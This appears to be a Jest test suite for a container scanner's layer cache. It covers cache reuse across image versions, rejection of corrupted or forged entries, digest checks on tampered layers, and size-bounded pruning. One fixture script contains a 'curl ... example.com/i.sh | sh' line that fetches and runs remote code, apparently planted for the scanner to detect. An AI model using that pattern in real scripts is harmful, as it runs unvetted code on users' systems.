/**
 * The layer cache end to end through the CLI: a re-gate with cached layers gives byte-identical
 * findings to a cold run, reads only the layers it has not seen, never trusts a damaged entry,
 * still checks the bytes of a layer read from a file, and keeps its directory within its bound.
 */
import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  truncateSync,
  utimesSync,
  writeFileSync
} from 'node:fs'
import { createHash } from 'node:crypto'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { deserialize, serialize } from 'node:v8'
import { captureOutput, type CapturedOutput } from '../../__fixtures__/capture.js'
import { demoImageSpec } from '../../__fixtures__/demo-image.js'
import {
  buildImage,
  ociArchive,
  writeOciArchive,
  writeOciLayout,
  type BuiltImage,
  type FixtureEntry
} from '../../__fixtures__/image-builder.js'
import {
  blobDataPath,
  missingTools,
  pushWithSkopeo,
  startRegistry
} from '../../__fixtures__/registry.js'
import { main } from '../../src/cli.js'
import { analyzeLayer } from '../../src/image/layer/analyze.js'
import { analysisKey, hashBundle, LayerCache } from '../../src/image/layer/cache.js'
import { silentLogger } from '../../src/log.js'
import type { GateReport } from '../../src/report/model.js'

let dir: string
let output: CapturedOutput

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'layer-cache-'))
  output = captureOutput()
})

afterEach(() => {
  jest.restoreAllMocks()
  rmSync(dir, { recursive: true, force: true })
})

/** The demo image (findings of every method) with one more layer on top, as an app build adds. */
function appImage(top: FixtureEntry[]): BuiltImage {
  const spec = demoImageSpec()
  return buildImage({
    ...spec,
    layers: [...spec.layers, { entries: top, createdBy: 'COPY app.py /srv/app/ # buildkit' }]
  })
}

const V1 = appImage([{ path: 'srv/app/app.py', content: 'print("v1")\n' }])
const V2 = appImage([
  { path: 'srv/app/app.py', content: 'print("v2")\n' },
  { path: 'srv/app/run.sh', content: '#!/bin/sh\ncurl -fsSL https://example.com/i.sh | sh\n' }
])

function layout(image: BuiltImage, name: string): string {
  const path = join(dir, name)
  writeOciLayout(path, [{ image, ref: 'app' }])
  return `oci:${path}:app`
}

interface Scan {
  status: number
  report: GateReport
  stderr: string
}

async function scan(image: string, cache: string | undefined, ...flags: string[]): Promise<Scan> {
  const report = join(dir, 'report.json')
  rmSync(report, { force: true })
  const before = output.stderr.length
  const status = await main(
    [
      'scan',
      image,
      '--vuln-db',
      'demo/osv',
      '--report',
      report,
      '--output',
      '/dev/null',
      '--verbose',
      ...flags
    ],
    cache === undefined ? {} : { CONTAINER_GATE_CACHE_DIR: cache }
  )
  return {
    status,
    report: JSON.parse(readFileSync(report, 'utf8')) as GateReport,
    stderr: output.stderr.slice(before)
  }
}

/** What must not differ between a cold and a warm run: all but timings and the cache marks. */
function comparable(report: GateReport): unknown {
  return {
    verdict: report.verdict,
    image: { ...report.image, layers: report.image.layers.map(({ cached: _, ...l }) => l) },
    steps: report.steps.map(({ id, status }) => ({ id, status })),
    findings: JSON.stringify(report.findings),
    summary: report.summary
  }
}

/** Which layers of a report came from the layer cache. */
function cachedLayers(report: GateReport): boolean[] {
  return report.image.layers.map((layer) => layer.cached === true)
}

function entries(cache: string): string[] {
  return readdirSync(join(cache, 'layers')).filter((name) => name.endsWith('.layer'))
}

describe('the layer cache', () => {
  it('re-gates an image with byte-identical findings, reading only the layers it has not seen', async () => {
    const cache = join(dir, 'cache')
    const cold = await scan(layout(V2, 'v2'), undefined)
    expect(cold.status).toBe(1)
    // Findings of every method, so every step's per-layer analysis goes through the cache.
    expect(new Set(cold.report.findings.map((f) => f.step))).toEqual(
      new Set(['identity', 'tests', 'code', 'composition', 'hardening'])
    )

    const first = await scan(layout(V1, 'v1'), cache)
    expect(first.report.image.layers.filter((l) => l.cached === true)).toHaveLength(0)
    expect(entries(cache)).toHaveLength(4)

    const warm = await scan(layout(V2, 'v2'), cache)
    expect(warm.status).toBe(1)
    expect(cachedLayers(warm.report)).toEqual([true, true, true, false])
    expect(comparable(warm.report)).toEqual(comparable(cold.report))
    expect(warm.stderr).toContain('3 of 4 layers of')
    // The secret scan's time counts only the layer this run read.
    const hardening = (report: GateReport): string =>
      report.steps.find((step) => step.id === 'hardening')?.notes?.[0] ?? ''
    expect(hardening(cold.report)).toMatch(/ in 4 layers in \d+ ms/)
    expect(hardening(warm.report)).toMatch(
      / in 4 layers \(3 scanned by an earlier run, from the layer cache\) in \d+ ms/
    )

    const again = await scan(layout(V2, 'v2'), cache)
    expect(again.report.image.layers.every((l) => l.cached === true)).toBe(true)
    expect(comparable(again.report)).toEqual(comparable(cold.report))
  })

  it('does not reuse an analysis made under other settings', async () => {
    const cache = join(dir, 'cache')
    await scan(layout(V1, 'v1'), cache)
    const rules = join(dir, 'rules.yml')
    writeFileSync(
      rules,
      'hardening:\n  secret-rules:\n    - id: app-marker\n      regex: "print\\\\(\\"v1\\"\\\\)"\n      keywords: [print]\n      severity: high\n'
    )
    const other = await scan(layout(V1, 'v1'), cache, '--config', rules)
    expect(other.report.image.layers.some((l) => l.cached === true)).toBe(false)
    expect(other.report.findings.map((f) => f.rule)).toContain('hardening/secret-app-marker')
    expect(entries(cache)).toHaveLength(8)
  })

  it.each([
    ['a flipped byte', (file: string) => flipLastByte(file)],
    [
      'a partly written entry',
      (file: string) => truncateSync(file, Math.floor(statSync(file).size / 2))
    ],
    ['an empty file', (file: string) => truncateSync(file, 0)],
    ['another format', (file: string) => writeFileSync(file, 'CGLAYER9' + 'x'.repeat(64))]
  ])('removes an entry with %s, reads the layer again and writes it anew', async (_, damage) => {
    const cache = join(dir, 'cache')
    const image = layout(V1, 'v1')
    const cold = await scan(image, cache)
    const names = entries(cache)
    const damaged = join(cache, 'layers', names[0]!)
    damage(damaged)
    const warm = await scan(image, cache)
    expect(warm.stderr).toContain(`Layer cache entry ${damaged} is not used (`)
    expect(warm.report.image.layers.filter((l) => l.cached === true)).toHaveLength(3)
    expect(comparable(warm.report)).toEqual(comparable(cold.report))
    // Written again whole: the next run takes every layer from the cache.
    const next = await scan(image, cache)
    expect(next.report.image.layers.every((l) => l.cached === true)).toBe(true)
    expect(next.stderr).not.toContain('is not used')
  })

  interface Columns {
    paths: unknown[]
    types: Uint8Array
    numbers: Float64Array
    links: unknown[]
  }
  it.each<[string, (columns: Columns) => void]>([
    ['a path that is not absolute', (columns) => (columns.paths[0] = 'etc/passwd')],
    ['a path that is not text', (columns) => (columns.paths[0] = 7)],
    ['a type out of the list', (columns) => (columns.types[0] = 200)],
    ['a size that is not an integer', (columns) => (columns.numbers[3] = 1.5)],
    ['numbers for fewer entries', (columns) => (columns.numbers = columns.numbers.subarray(5))],
    ['a link to an entry past the end', (columns) => columns.links.push([1e6, '/x'])],
    ['links out of entry order', (columns) => columns.links.unshift([10, '/x'], [3, '/y'])],
    ['entries that are not columns', (columns) => (columns.paths = undefined!)]
  ])(
    'does not trust a whole entry whose analysis is not of the expected shape: %s',
    async (_, forge) => {
      const cache = join(dir, 'cache')
      const image = layout(V1, 'v1')
      const cold = await scan(image, cache)
      const file = join(cache, 'layers', entries(cache)[0]!)
      // A forged entry: a valid checksum over an analysis that is not what the reader makes.
      const bytes = readFileSync(file)
      const payload = deserialize(bytes.subarray(40)) as { analysis: { entries: Columns } }
      forge(payload.analysis.entries)
      const forged = serialize(payload)
      writeFileSync(
        file,
        Buffer.concat([bytes.subarray(0, 8), createHash('sha256').update(forged).digest(), forged])
      )
      const warm = await scan(image, cache)
      expect(warm.stderr).toContain(
        `Layer cache entry ${file} is not used (its analysis is not of the expected shape)`
      )
      expect(comparable(warm.report)).toEqual(comparable(cold.report))
    }
  )

  it('still checks the bytes of a cached layer read from a file against its digest', async () => {
    const cache = join(dir, 'cache')
    const image = layout(V1, 'v1')
    await scan(image, cache)
    const base = V1.layers[0]!.digest.slice('sha256:'.length)
    flipLastByte(join(dir, 'v1', 'blobs', 'sha256', base))
    const status = await main(['scan', image, '--vuln-db', 'demo/osv'], {
      CONTAINER_GATE_CACHE_DIR: cache
    })
    expect(status).toBe(2)
    expect(output.stderr).toContain(`layer ${V1.layers[0]!.digest} does not match its digest`)
  })

  it('checks a cached layer of an archive file against its digest too, before it reports', async () => {
    const cache = join(dir, 'cache')
    const file = join(dir, 'v1.tar')
    const archive = writeOciArchive(file, [{ image: V1, ref: 'app' }])
    const cold = await scan(`oci-archive:${file}`, cache)
    // The untouched archive again: its cached members' ranges hash to their digests.
    const warm = await scan(`oci-archive:${file}`, cache)
    expect(cachedLayers(warm.report)).toEqual(V1.layers.map(() => true))
    expect(comparable(warm.report)).toEqual(comparable(cold.report))
    // The base layer's member, its last byte changed: the tar stays valid, the blob does not.
    const blob = V1.layers[0]!.blob
    const at = archive.indexOf(blob)
    expect(at).toBeGreaterThan(0)
    archive[at + blob.length - 1] ^= 0xff
    writeFileSync(file, archive)
    const report = join(dir, 'tampered.json')
    const status = await main(
      ['scan', `oci-archive:${file}`, '--vuln-db', 'demo/osv', '--report', report],
      { CONTAINER_GATE_CACHE_DIR: cache }
    )
    expect(status).toBe(2)
    expect(output.stderr).toContain(
      `layer ${V1.layers[0]!.digest} in oci-archive:${file} does not match its digest`
    )
    expect(existsSync(report)).toBe(false)
  })

  it('checks only the image’s own cached layers: another platform’s in the archive does not count', async () => {
    const cache = join(dir, 'cache')
    const amd = buildImage({
      layers: [{ entries: [{ path: 'srv/a.txt', content: 'amd\n' }] }],
      config: { User: '10001' }
    })
    const arm = buildImage({
      layers: [{ entries: [{ path: 'srv/b.txt', content: 'arm arm\n' }] }],
      config: { User: '10001' },
      platform: { os: 'linux', architecture: 'arm64' }
    })
    // index.json last: both platforms' layers pass before the archive says which is chosen.
    const file = join(dir, 'multi.tar')
    const archive = ociArchive([{ image: amd }, { image: arm }], {
      index: { ref: 'app' },
      documents: 'last'
    })
    writeFileSync(file, archive)
    const image = `oci-archive:${file}`
    const cold = await scan(image, cache, '--platform', 'linux/amd64')
    const blob = arm.layers[0]!.blob
    const at = archive.indexOf(blob)
    archive[at + blob.length - 1] ^= 0xff
    writeFileSync(file, archive)
    const warm = await scan(image, cache, '--platform', 'linux/amd64')
    expect(warm.status).toBe(cold.status)
    expect(cachedLayers(warm.report)).toEqual([true])
    expect(comparable(warm.report)).toEqual(comparable(cold.report))
  })

  it('refuses an archive cut short inside a layer it has cached, without reading the layer', async () => {
    const cache = join(dir, 'cache')
    const file = join(dir, 'v1.tar')
    const archive = writeOciArchive(file, [{ image: V1, ref: 'app' }], { documents: 'first' })
    await scan(`oci-archive:${file}`, cache)
    const blob = V1.layers[1]!.blob
    writeFileSync(file, archive.subarray(0, archive.indexOf(blob) + Math.floor(blob.length / 2)))
    const status = await main(['scan', `oci-archive:${file}`, '--vuln-db', 'demo/osv'], {
      CONTAINER_GATE_CACHE_DIR: cache
    })
    expect(status).toBe(2)
    expect(output.stderr).toContain('tar stream is truncated')
  })

  it('keeps the directory within layer-cache-size, dropping the least recently used entries', async () => {
    const cache = join(dir, 'cache')
    await scan(layout(V1, 'v1'), cache)
    const v1Top = `${V1.layers[3]!.digest.slice('sha256:'.length)}.`
    const bytes = (names: string[]): number =>
      names.reduce((sum, name) => sum + statSync(join(cache, 'layers', name)).size, 0)
    // V2 uses the three lower layers again (they become recently used) and adds its own top.
    await scan(layout(V2, 'v2'), cache)
    const all = entries(cache)
    expect(all).toHaveLength(5)
    const stale = all.find((name) => name.startsWith(v1Top))!
    utimesSync(join(cache, 'layers', stale), new Date(1000), new Date(1000))
    // One byte short of everything: the least recently used entries go first.
    const bound = bytes(all) - 1
    await scan(layout(V2, 'v2'), cache, '--layer-cache-size', String(bound))
    // Nothing new was written by that run, so it pruned nothing; a run that writes prunes.
    expect(entries(cache)).toHaveLength(5)
    const v3 = appImage([{ path: 'srv/app/app.py', content: 'print("v3")\n' }])
    await scan(layout(v3, 'v3'), cache, '--layer-cache-size', String(bound))
    const left = entries(cache)
    expect(bytes(left)).toBeLessThanOrEqual(bound)
    // V1's top went first, then V2's (used before the lower layers were used again by v3).
    const kept = [...V1.layers.slice(0, 3), v3.layers[3]!].map((l) => l.digest.slice(7)).sort()
    expect(left.map((name) => name.split('.')[0]).sort()).toEqual(kept)
  })

  it('goes on without a cache it cannot use, with one warning', async () => {
    const cache = join(dir, 'cache')
    writeFileSync(cache, 'not a directory')
    const result = await scan(layout(V1, 'v1'), cache)
    expect(result.status).toBe(1)
    const warnings = result.stderr.split('\n').filter((line) => line.includes('layer cache in'))
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain(
      'cannot be used (reading ' // ENOTDIR on the first look-up
    )
  })

  it('is off with layer-cache false, and without a place the environment names', async () => {
    const cache = join(dir, 'cache')
    await scan(layout(V1, 'v1'), cache, '--layer-cache', 'false')
    expect(() => readdirSync(join(cache, 'layers'))).toThrow()
    const none = await scan(layout(V1, 'v1'), undefined)
    expect(none.report.image.layers.some((l) => l.cached === true)).toBe(false)
  })

  it.each([
    ['lots', 'input "layer-cache-size" is "lots"'],
    ['0', 'give a size above zero such as 500MB, or set layer-cache to false']
  ])('refuses a layer-cache-size of %s', async (size, message) => {
    const status = await main(['scan', layout(V1, 'v1'), '--layer-cache-size', size], {})
    expect(status).toBe(2)
    expect(output.stderr).toContain(message)
  })
})

const missing = missingTools(['docker-registry', 'skopeo'])
if (missing !== undefined) console.warn(`layer cache registry test ${missing}`)
const describeWithRegistry = missing === undefined ? describe : describe.skip

describeWithRegistry(missing ?? 'the layer cache with a real registry', () => {
  it('does not download the layers it has analysed before', async () => {
    const registry = await startRegistry()
    try {
      const v1 = join(dir, 'v1')
      const v2 = join(dir, 'v2')
      writeOciLayout(v1, [{ image: V1, ref: 'app' }])
      writeOciLayout(v2, [{ image: V2, ref: 'app' }])
      await pushWithSkopeo(v1, 'app', `${registry.host}/app:1`)
      await pushWithSkopeo(v2, 'app', `${registry.host}/app:2`)
      const cold = await scan(`${registry.host}/app:2`, undefined)
      const cache = join(dir, 'cache')
      await scan(`${registry.host}/app:1`, cache)
      // The registry loses the shared layers: a download of any of them would now fail.
      for (const layer of V2.layers.slice(0, 3))
        rmSync(blobDataPath(registry.storage, layer.digest))
      const warm = await scan(`${registry.host}/app:2`, cache)
      expect(warm.status).toBe(1)
      expect(cachedLayers(warm.report)).toEqual([true, true, true, false])
      expect(comparable(warm.report)).toEqual(comparable(cold.report))
    } finally {
      await registry.stop()
    }
  })
})

describe('a layer cache entry', () => {
  it('gives back every kind of tar entry with the fields the tar reader made, in their order', async () => {
    const capability = Buffer.from('0100000200200000000000000000000000000000', 'hex')
    const [layer] = buildImage({
      layers: [
        {
          entries: [
            { path: 'usr/bin/' },
            {
              path: 'usr/bin/ping',
              content: 'x',
              mode: 0o4755,
              xattrs: { 'security.capability': capability }
            },
            { path: 'usr/bin/ping2', type: 'hardlink', linkTarget: 'usr/bin/ping' },
            { path: 'usr/bin/sh', type: 'symlink', linkTarget: 'dash' },
            { path: 'dev/null', type: 'char', devMajor: 1, devMinor: 3, mode: 0o666 },
            { path: 'dev/sda', type: 'block', devMajor: 8, devMinor: 0 },
            { path: 'run/fifo', type: 'fifo', uid: 70_000, gid: 2 ** 31, mtime: 2 ** 33 }
          ]
        }
      ]
    }).layers
    const analysis = await analyzeLayer(Readable.from([layer!.blob]), {
      name: layer!.digest,
      expectedDigest: layer!.digest,
      requests: [],
      subscriptions: []
    })
    const cache = new LayerCache({
      dir,
      maxBytes: 1024 ** 3,
      key: 'k'.repeat(64),
      logger: silentLogger
    })
    cache.put(analysis)
    await cache.settle()
    expect(cache.hasEntries()).toBe(true)
    const other = { dir, maxBytes: 1024 ** 3, key: 'o'.repeat(64), logger: silentLogger }
    expect(new LayerCache(other).hasEntries()).toBe(false)
    expect(new LayerCache({ ...other, dir: join(dir, 'none') }).hasEntries()).toBe(false)
    const back = await cache.get(layer!.digest)
    expect(back?.entries.map((entry) => Object.keys(entry))).toEqual(
      analysis.entries.map((entry) => Object.keys(entry))
    )
    expect(back?.entries).toEqual(analysis.entries)
    expect(back?.entries.find((entry) => entry.path === '/usr/bin/ping')?.xattrs).toEqual({
      'security.capability': capability
    })
  })
})

describe('analysisKey', () => {
  const request = { globs: ['/etc/passwd'], maxBytes: 1024 }
  const subscription = { id: 's', version: 1, settings: '', createVisitor: () => undefined! }

  it('changes with every part of what the pass computes, and not with their order', () => {
    const key = analysisKey([request], [subscription])
    expect(analysisKey([{ ...request, maxBytes: 2048 }], [subscription])).not.toBe(key)
    expect(analysisKey([{ ...request, globs: ['/etc/group'] }], [subscription])).not.toBe(key)
    expect(analysisKey([request], [{ ...subscription, version: 2 }])).not.toBe(key)
    expect(analysisKey([request], [{ ...subscription, settings: 'rules' }])).not.toBe(key)
    const other = { globs: ['/etc/group'], maxBytes: 1 }
    expect(analysisKey([request, other], [subscription])).toBe(
      analysisKey([other, request], [subscription])
    )
    const predicate = { maxBytes: 1, match: () => true, matchKey: 'exec@1' }
    expect(analysisKey([predicate], [])).not.toBe(
      analysisKey([{ ...predicate, matchKey: 'exec@2' }], [])
    )
  })
  it('keys the bundle by the id npm run bundle wrote, which is the hash of its files', () => {
    // dist/ is committed fresh (CI rebuilds it and fails on a difference).
    expect(readFileSync('dist/build-id', 'latin1').trim()).toBe(hashBundle('dist'))
  })
})

function flipLastByte(file: string): void {
  const bytes = readFileSync(file)
  bytes[bytes.length - 1] ^= 0xff
  writeFileSync(file, bytes)
}
